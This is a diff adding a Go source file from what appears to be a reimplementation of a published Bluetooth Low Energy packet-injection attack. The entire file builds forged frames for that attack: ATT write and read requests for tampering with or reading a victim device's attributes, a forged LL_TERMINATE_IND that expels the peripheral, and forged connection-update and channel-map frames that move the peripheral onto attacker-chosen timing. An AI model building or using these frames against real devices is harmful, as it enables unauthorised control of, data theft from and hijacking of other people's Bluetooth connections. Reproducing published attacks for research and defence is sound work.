@@ -1,0 +1,82 @@
+package injectable
+
+import (
+	"injectable/internal/att"
+	"injectable/internal/ble"
+	"injectable/internal/ble/pdu"
+)
+
+// Forged PDU builders: the malicious frames of the paper's scenarios.
+// SN/NESN are filled in by the injector at fire time (eq. 6).
+
+// l2capFrame wraps an upper-layer payload into a single-fragment L2CAP
+// frame on the given channel.
+func l2capFrame(cid uint16, payload []byte) []byte {
+	out := make([]byte, 0, 4+len(payload))
+	out = append(out, byte(len(payload)), byte(len(payload)>>8), byte(cid), byte(cid>>8))
+	return append(out, payload...)
+}
+
+// ForgeATTWriteCommand builds the scenario-A frame: an ATT Write Command
+// targeting a characteristic value handle.
+func ForgeATTWriteCommand(handle uint16, value []byte) pdu.DataPDU {
+	attPDU := append([]byte{byte(att.OpWriteCmd), byte(handle), byte(handle >> 8)}, value...)
+	return pdu.DataPDU{
+		Header:  pdu.DataHeader{LLID: pdu.LLIDStart},
+		Payload: l2capFrame(4, attPDU),
+	}
+}
+
+// ForgeATTWriteRequest builds an ATT Write Request (the slave answers with
+// a Write Response, observable by the attacker).
+func ForgeATTWriteRequest(handle uint16, value []byte) pdu.DataPDU {
+	attPDU := append([]byte{byte(att.OpWriteReq), byte(handle), byte(handle >> 8)}, value...)
+	return pdu.DataPDU{
+		Header:  pdu.DataHeader{LLID: pdu.LLIDStart},
+		Payload: l2capFrame(4, attPDU),
+	}
+}
+
+// ForgeATTReadRequest builds an ATT Read Request — the paper's example of
+// a confidentiality attack: the slave responds with the attribute value.
+func ForgeATTReadRequest(handle uint16) pdu.DataPDU {
+	return pdu.DataPDU{
+		Header:  pdu.DataHeader{LLID: pdu.LLIDStart},
+		Payload: l2capFrame(4, []byte{byte(att.OpReadReq), byte(handle), byte(handle >> 8)}),
+	}
+}
+
+// ForgeTerminateInd builds the scenario-B frame: LL_TERMINATE_IND expels
+// the slave from the connection while the master stays.
+func ForgeTerminateInd() pdu.DataPDU {
+	return pdu.DataPDU{
+		Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
+		Payload: pdu.MarshalControl(pdu.TerminateInd{ErrorCode: pdu.ErrCodeRemoteUserTerminated}),
+	}
+}
+
+// ForgeConnectionUpdate builds the scenario-C/D frame: a forged
+// LL_CONNECTION_UPDATE_IND that moves the slave onto attacker-chosen
+// timing at the given instant while the legitimate master keeps the old
+// schedule.
+func ForgeConnectionUpdate(winSize uint8, winOffset, interval, latency, timeout, instant uint16) pdu.DataPDU {
+	return pdu.DataPDU{
+		Header: pdu.DataHeader{LLID: pdu.LLIDControl},
+		Payload: pdu.MarshalControl(pdu.ConnectionUpdateInd{
+			WinSize:   winSize,
+			WinOffset: winOffset,
+			Interval:  interval,
+			Latency:   latency,
+			Timeout:   timeout,
+			Instant:   instant,
+		}),
+	}
+}
+
+// ForgeChannelMapUpdate builds a forged LL_CHANNEL_MAP_IND.
+func ForgeChannelMapUpdate(m ble.ChannelMap, instant uint16) pdu.DataPDU {
+	return pdu.DataPDU{
+		Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
+		Payload: pdu.MarshalControl(pdu.ChannelMapInd{ChannelMap: m, Instant: instant}),
+	}
+}
